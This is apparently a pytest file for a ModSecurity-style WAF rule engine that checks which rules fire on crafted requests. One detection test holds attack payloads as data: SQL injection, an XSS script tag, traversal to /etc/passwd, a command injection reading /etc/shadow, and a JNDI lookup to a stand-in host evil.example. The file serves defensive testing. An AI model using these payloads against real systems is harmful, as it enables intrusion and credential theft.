"""The rule engine, declaratively: inline SecLang + a request -> the rules that fire."""

from __future__ import annotations

from dataclasses import dataclass, field

import pytest

from waf import transaction
from waf.engine import build_ruleset, builtin_rule_files
from waf.rules import RuleSetError, compile_rules
from waf.seclang import parse_text
from waf.transaction import Transaction


@dataclass
class Req:
    method: str = "GET"
    uri: str = "/"
    headers: list[tuple[str, str]] = field(default_factory=list)
    body: bytes = b""
    status: int = 200
    response_headers: list[tuple[str, str]] = field(default_factory=list)
    response_body: bytes = b""


def run(rules: str, req: Req | None = None) -> Transaction:
    req = req or Req()
    ruleset = compile_rules(parse_text("SecRequestBodyAccess On\nSecResponseBodyAccess On\n"
                                       + rules))
    tx = Transaction(ruleset, "test")
    tx.process_connection("10.0.0.1", 1234, "127.0.0.1", 80)
    tx.process_uri(req.uri, req.method, "HTTP/1.1")
    for k, v in req.headers:
        tx.add_request_header(k, v)
    if (tx.process_request_headers() is None and tx.process_request_body(req.body) is None
            and tx.process_response_headers(req.status, "HTTP/1.1",
                                            req.response_headers) is None):
        tx.process_response_body(req.response_body)
    tx.process_logging()
    return tx


def fired(tx: Transaction) -> list[int]:
    return [m.id for m in tx.matched]


FORM = [("Content-Type", "application/x-www-form-urlencoded")]

CASES: list[tuple[str, str, Req, list[int]]] = [
    # (name, rules, request, rule ids that fire, in order)
    ("rx on ARGS", 'SecRule ARGS "@rx attack" "id:1,phase:2,pass,log"',
     Req(uri="/?q=an+attack"), [1]),
    ("no match", 'SecRule ARGS "@rx attack" "id:1,phase:2,pass,log"',
     Req(uri="/?q=peace"), []),
    ("negated operator", 'SecRule REQUEST_METHOD "!@streq GET" "id:1,phase:1,pass,log"',
     Req(method="POST"), [1]),
    ("negation needs a value", 'SecRule REQUEST_HEADERS:X-Absent "!@rx x" "id:1,phase:1,pass"',
     Req(), []),
    ("post args", 'SecRule ARGS_POST:a "@streq 1" "id:1,phase:2,pass"',
     Req(method="POST", headers=FORM, body=b"a=1&b=2"), [1]),
    ("ARGS covers both", 'SecRule ARGS:a "@streq 2" "id:1,phase:2,pass"',
     Req(method="POST", uri="/?a=1", headers=FORM, body=b"a=2"), [1]),
    ("ARGS_NAMES", 'SecRule ARGS_NAMES "@rx ^sec" "id:1,phase:2,pass"',
     Req(uri="/?secret=1"), [1]),
    ("key regex", 'SecRule ARGS:/^x-/ "@rx y" "id:1,phase:2,pass"', Req(uri="/?x-a=y"), [1]),
    ("exclusion", 'SecRule ARGS|!ARGS:safe "@rx evil" "id:1,phase:2,pass"',
     Req(uri="/?safe=evil"), []),
    ("exclusion leaves others", 'SecRule ARGS|!ARGS:safe "@rx evil" "id:1,phase:2,pass"',
     Req(uri="/?safe=evil&other=evil"), [1]),
    ("count", 'SecRule &REQUEST_HEADERS:Host "@eq 0" "id:1,phase:1,pass"', Req(), [1]),
    ("count present", 'SecRule &REQUEST_HEADERS:Host "@eq 0" "id:1,phase:1,pass"',
     Req(headers=[("Host", "x")]), []),
    ("header names are case-insensitive",
     'SecRule REQUEST_HEADERS:user-agent "@contains curl" "id:1,phase:1,pass"',
     Req(headers=[("User-Agent", "curl/8")]), [1]),
    ("cookies", 'SecRule REQUEST_COOKIES:sid "@streq abc" "id:1,phase:1,pass"',
     Req(headers=[("Cookie", "a=1; sid=abc")]), [1]),
    ("transformation",
     'SecRule ARGS "@streq <script>" "id:1,phase:2,pass,t:urlDecodeUni,t:lowercase"',
     Req(uri="/?q=%3CSCRIPT%3E"), [1]),
    ("t:none clears defaults", 'SecDefaultAction "phase:2,log,pass,t:lowercase"\n'
     'SecRule ARGS "@streq ABC" "id:1,phase:2,t:none"', Req(uri="/?q=ABC"), [1]),
    ("default transformation applies", 'SecDefaultAction "phase:2,log,pass,t:lowercase"\n'
     'SecRule ARGS "@streq ABC" "id:1,phase:2"', Req(uri="/?q=ABC"), []),
    ("chain all match", 'SecRule REQUEST_METHOD "@streq POST" "id:1,phase:2,pass,chain"\n'
     '    SecRule ARGS:a "@streq 1" ""', Req(method="POST", headers=FORM, body=b"a=1"), [1]),
    ("chain broken", 'SecRule REQUEST_METHOD "@streq POST" "id:1,phase:2,pass,chain"\n'
     '    SecRule ARGS:a "@streq 2"', Req(method="POST", headers=FORM, body=b"a=1"), []),
    ("skipAfter", 'SecRule REQUEST_METHOD "@streq GET" "id:1,phase:1,pass,nolog,skipAfter:END"\n'
     'SecRule REQUEST_METHOD "@rx ." "id:2,phase:1,pass"\nSecMarker END\n'
     'SecRule REQUEST_METHOD "@rx ." "id:3,phase:1,pass"', Req(), [3]),
    ("skip", 'SecRule REQUEST_METHOD "@streq GET" "id:1,phase:1,pass,nolog,skip:1"\n'
     'SecRule REQUEST_METHOD "@rx ." "id:2,phase:1,pass"\n'
     'SecRule REQUEST_METHOD "@rx ." "id:3,phase:1,pass"', Req(), [3]),
    ("phases run in order", 'SecRule REQUEST_METHOD "@rx ." "id:2,phase:2,pass"\n'
     'SecRule REQUEST_METHOD "@rx ." "id:1,phase:1,pass"\n'
     'SecRule RESPONSE_STATUS "@eq 200" "id:3,phase:3,pass"\n'
     'SecRule REQUEST_METHOD "@rx ." "id:5,phase:5,pass"', Req(), [1, 2, 3, 5]),
    ("setvar and macro", 'SecAction "id:1,phase:1,pass,nolog,setvar:tx.score=3"\n'
     'SecAction "id:2,phase:1,pass,nolog,setvar:tx.score=+4"\n'
     'SecRule TX:score "@eq 7" "id:3,phase:1,pass"', Req(), [3]),
    ("macro in operator", 'SecAction "id:1,phase:1,pass,nolog,setvar:tx.limit=5"\n'
     'SecRule ARGS:n "@gt %{tx.limit}" "id:2,phase:2,pass"', Req(uri="/?n=6"), [2]),
    ("capture", 'SecRule ARGS:a "@rx (b+)(c)" "id:1,phase:2,pass,nolog,capture"\n'
     'SecRule TX:1 "@streq bbb" "id:2,phase:2,pass"', Req(uri="/?a=xbbbc"), [2]),
    ("setvar per match", 'SecRule ARGS "@rx x" "id:1,phase:2,pass,nolog,setvar:tx.n=+1"\n'
     'SecRule TX:n "@eq 2" "id:2,phase:2,pass"', Req(uri="/?a=x&b=x&c=y"), [2]),
    ("ctl ruleRemoveById range", 'SecAction "id:1,phase:1,pass,nolog,ctl:ruleRemoveById=2-3"\n'
     'SecAction "id:2,phase:1,pass"\nSecAction "id:4,phase:1,pass"', Req(), [4]),
    ("ctl ruleRemoveTargetById",
     'SecAction "id:1,phase:1,pass,nolog,ctl:ruleRemoveTargetById=2;ARGS:a"\n'
     'SecRule ARGS "@rx x" "id:2,phase:2,pass"', Req(uri="/?a=x"), []),
    ("SecRuleRemoveById", 'SecAction "id:1,phase:1,pass"\nSecRuleRemoveById 1', Req(), []),
    ("SecRuleUpdateTargetById", 'SecRule ARGS "@rx x" "id:1,phase:2,pass"\n'
     'SecRuleUpdateTargetById 1 "!ARGS:a"', Req(uri="/?a=x"), []),
    ("multiMatch", 'SecRule ARGS "@streq %41" "id:1,phase:2,pass,t:urlDecode,multiMatch"',
     Req(uri="/?a=%2541"), [1]),
    ("multiMatch rx, each value once",
     'SecRule ARGS "@rx ^(?:%41|A)$" "id:1,phase:2,pass,nolog,t:urlDecode,multiMatch,'
     'setvar:tx.n=+1"\nSecRule TX:n "@eq 2" "id:2,phase:2,pass"',
     Req(uri="/?a=%2541&a=%2541"), [2]),
    ("no multiMatch", 'SecRule ARGS "@streq %41" "id:1,phase:2,pass,t:urlDecode"',
     Req(uri="/?a=%2541"), []),
    ("json body", 'SecRule REQUEST_HEADERS:Content-Type "@rx json" '
     '"id:1,phase:1,pass,nolog,ctl:requestBodyProcessor=JSON"\n'
     'SecRule ARGS "@streq evil" "id:2,phase:2,pass"',
     Req(method="POST", headers=[("Content-Type", "application/json")],
         body=b'{"a": {"b": "evil"}}'), [2]),
    ("broken json", 'SecRule REQUEST_HEADERS:Content-Type "@rx json" '
     '"id:1,phase:1,pass,nolog,ctl:requestBodyProcessor=JSON"\n'
     'SecRule REQBODY_ERROR "!@eq 0" "id:2,phase:2,pass"',
     Req(method="POST", headers=[("Content-Type", "application/json")], body=b'{"a": '), [2]),
    ("xml", 'SecRule REQUEST_HEADERS:Content-Type "@rx xml" '
     '"id:1,phase:1,pass,nolog,ctl:requestBodyProcessor=XML"\n'
     'SecRule XML:/* "@contains evil" "id:2,phase:2,pass"\n'
     'SecRule XML://@* "@streq bad" "id:3,phase:2,pass"',
     Req(method="POST", headers=[("Content-Type", "text/xml")],
         body=b'<a x="bad"><b>so evil</b></a>'), [2, 3]),
    ("request body variable", 'SecRule REQUEST_BODY "@contains a=1" "id:1,phase:2,pass"',
     Req(method="POST", headers=FORM, body=b"a=1"), [1]),
    ("response body", 'SecRule RESPONSE_BODY "@contains secret" "id:1,phase:4,pass"',
     Req(response_headers=[("Content-Type", "text/html")], response_body=b"a secret"), [1]),
    ("response body other mime", 'SecRule RESPONSE_BODY "@contains secret" "id:1,phase:4,pass"',
     Req(response_headers=[("Content-Type", "image/png")], response_body=b"a secret"), []),
]


@pytest.mark.parametrize(("rules", "req", "expected"),
                         [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_rules_fire(rules: str, req: Req, expected: list[int]) -> None:
    assert fired(run(rules, req)) == expected


@pytest.mark.parametrize(("rules", "req", "expected"),
                         [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_rules_fire_the_same_when_the_sets_are_out_of_budget(
        rules: str, req: Req, expected: list[int], monkeypatch: pytest.MonkeyPatch) -> None:
    # A transaction that has spent its prefilter budget (hostile input) hands
    # every value to the rules' own operators: the verdicts must not change.
    monkeypatch.setattr(transaction, "_SET_BUDGET_S", -1.0)
    assert fired(run(rules, req)) == expected


def test_builtin_rules_judge_attacks_the_same_without_the_sets(
        monkeypatch: pytest.MonkeyPatch) -> None:
    requests = [
        Req(uri="/?q=1%27%20or%201=1--&x=%3Cscript%3Ealert(1)%3C/script%3E"),
        Req(uri="/?file=../../../../etc/passwd&cmd=;cat%20/etc/shadow"),
        Req(method="POST", headers=FORM,
            body=b"name=${jndi:ldap://evil.example/a}&token=aB3dE5gH7jK9mN1pQ3sT5vW7xY9z"),
        Req(uri="/search?q=garden+chairs&page=2"),
    ]

    def judge() -> list[list[int]]:
        ruleset = build_ruleset(engine="On", paranoia=2, files=builtin_rule_files())
        out = []
        for req in requests:
            tx = Transaction(ruleset, "test")
            tx.process_connection("10.0.0.1", 1234, "127.0.0.1", 80)
            tx.process_uri(req.uri, req.method, "HTTP/1.1")
            for k, v in [("Host", "example.com"), ("User-Agent", "Mozilla/5.0"),
                         ("Accept", "*/*"), *req.headers]:
                tx.add_request_header(k, v)
            if tx.process_request_headers() is None:
                tx.process_request_body(req.body)
            tx.process_logging()
            out.append(sorted(m.id for m in tx.matched))
        return out

    with_sets = judge()
    assert all(with_sets[:3]) and not with_sets[3]  # the attacks are caught, the search is not
    monkeypatch.setattr(transaction, "_SET_BUDGET_S", -1.0)
    assert judge() == with_sets


def test_deny_interrupts_with_status_and_stops_the_phase() -> None:
    tx = run('SecRuleEngine On\nSecRule ARGS "@rx x" "id:1,phase:1,deny,status:406"\n'
             'SecAction "id:2,phase:1,pass"\nSecAction "id:3,phase:5,pass"', Req(uri="/?a=x"))
    assert tx.interruption is not None
    assert (tx.interruption.rule_id, tx.interruption.status) == (1, 406)
    assert fired(tx) == [1, 3]  # logging still runs


def test_detection_only_never_interrupts() -> None:
    tx = run('SecRuleEngine DetectionOnly\nSecRule ARGS "@rx x" "id:1,phase:1,deny"\n'
             'SecAction "id:2,phase:1,pass"', Req(uri="/?a=x"))
    assert tx.interruption is None
    assert fired(tx) == [1, 2]
    assert tx.matched[0].disruptive


def test_block_takes_the_phase_default() -> None:
    tx = run('SecRuleEngine On\nSecDefaultAction "phase:2,log,deny,status:403"\n'
             'SecRule ARGS "@rx x" "id:1,phase:2,block"', Req(uri="/?a=x"))
    assert tx.interruption is not None and tx.interruption.rule_id == 1
    tx = run('SecRuleEngine On\nSecDefaultAction "phase:2,log,pass"\n'
             'SecRule ARGS "@rx x" "id:1,phase:2,block"', Req(uri="/?a=x"))
    assert tx.interruption is None and fired(tx) == [1]


def test_allow_stops_rule_processing() -> None:
    tx = run('SecRuleEngine On\nSecRule REMOTE_ADDR "@ipMatch 10.0.0.0/8" "id:1,phase:1,allow"\n'
             'SecRule ARGS "@rx x" "id:2,phase:2,deny"', Req(uri="/?a=x"))
    assert tx.interruption is None
    assert fired(tx) == [1]


def test_msg_and_logdata_expand_after_the_match() -> None:
    tx = run("SecRule ARGS \"@rx (evil)\" \"id:1,phase:2,pass,capture,"
             "msg:'found %{TX.1}',logdata:'in %{MATCHED_VAR_NAME}: %{MATCHED_VAR}'\"",
             Req(uri="/?q=very+evil"))
    (m,) = tx.matched
    assert m.msg == "found evil"
    assert m.data == "in ARGS:q: very evil"


@pytest.mark.parametrize(("rules", "message"), [
    ('SecRule ARGS "@nosuchop x" "id:1"', "unknown operator"),
    ('SecRule NOPE "@rx x" "id:1"', "unknown variable"),
    ('SecRule ARGS "@rx x" "id:1,nosuchaction"', "unknown action"),
    ('SecRule ARGS "@rx x" "phase:1"', "needs an id"),
    ('SecAction "id:1"\nSecAction "id:1"', "duplicate rule id"),
    ('SecRule ARGS "@rx (" "id:1"', "invalid pattern"),
    ('SecRule ARGS "@rx x" "id:1,chain"', "chain"),
])
def test_bad_rules_name_file_and_line(rules: str, message: str) -> None:
    with pytest.raises(RuleSetError) as info:
        compile_rules(parse_text("\n" + rules, "my.conf"))
    assert info.value.file == "my.conf"
    assert info.value.line >= 2
    assert message in str(info.value)


def test_no_argument_hides_behind_a_thousand_others() -> None:
    uri = "/?" + "&".join(f"a{i}=1" for i in range(1500)) + "&q=evil"
    assert fired(run('SecRule ARGS "@rx evil" "id:1,phase:2,pass"', Req(uri=uri))) == [1]


@pytest.mark.parametrize(("value", "negated", "expected"), [
    ("x" * 10_000 + "attack", False, [1]),
    ("x" * 10_000, False, []),
    ("x" * 10_000, True, [1]),
    ("short attack", False, [1]),
    # Random tokens skip the prefilter set too (its DFA is slow on them):
    # what they hide is still found, and a negated rule still sees them.
    ("aB3dE5gH7jK9mN1pQ3sT5vW7xY9z" + "attack", False, [1]),
    ("eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJzdWIiOiJhdHRhY2sifQ", False, []),
    ("aB3dE5gH7jK9mN1pQ3sT5vW7xY9z", True, [1]),
    ("attack 6f1c0a9e2b7d4c38a5e1f0b9d2c7a4e3", False, [1]),
])
def test_long_values_are_matched_outside_the_prefilter(value: str, negated: bool,
                                                       expected: list[int]) -> None:
    op = "!@rx attack" if negated else "@rx attack"
    # A second rule on the same values and chain puts both in one prefilter group.
    rules = (f'SecRule ARGS "{op}" "id:1,phase:2,pass,t:lowercase"\n'
             'SecRule ARGS "@rx zzz" "id:2,phase:2,pass,t:lowercase"')
    assert fired(run(rules, Req(uri=f"/?q={value.replace(' ', '+')}"))) == expected


def test_anomaly_scores_leave_out_the_severity_weights() -> None:
    tx = run('SecAction "id:1,phase:1,pass,nolog,setvar:tx.critical_anomaly_score=5,'
             'setvar:tx.inbound_anomaly_score_pl1=10"')
    assert tx.anomaly_scores() == {"inbound_anomaly_score_pl1": 10}


@pytest.mark.parametrize(("directives", "body", "engine", "interrupted", "seen"), [
    # Reject: refused (413) when the engine blocks ...
    ("SecRequestBodyLimit 10", b"a=1&b=evil00", "On", True, False),
    # ... but DetectionOnly still inspects, up to the limit.
    ("SecRequestBodyLimit 10", b"a=1&b=evil00", "DetectionOnly", False, True),
    ("SecRequestBodyLimit 10\nSecRequestBodyLimitAction ProcessPartial",
     b"a=1&b=evil" + b"0" * 50, "On", False, True),
    ("SecRequestBodyLimit 10\nSecRequestBodyLimitAction ProcessPartial",
     b"a=1" + b"0" * 50 + b"&b=evil", "On", False, False),
    ("SecRequestBodyNoFilesLimit 10", b"a=1&b=evil00", "On", True, False),
    ("", b"a=1&b=evil" + b"0" * 5000, "On", False, True),  # no directive: no engine limit
])
def test_request_body_limit_directives(directives: str, body: bytes, engine: str,
                                       interrupted: bool, seen: bool) -> None:
    tx = run(f"SecRuleEngine {engine}\n{directives}\n"
             'SecRule ARGS:b "@contains evil" "id:1,phase:2,pass,log"',
             Req(method="POST", headers=FORM, body=body))
    assert (tx.interruption is not None) == interrupted
    if interrupted:
        assert tx.interruption is not None and tx.interruption.status == 413
    assert (fired(tx) == [1]) == seen
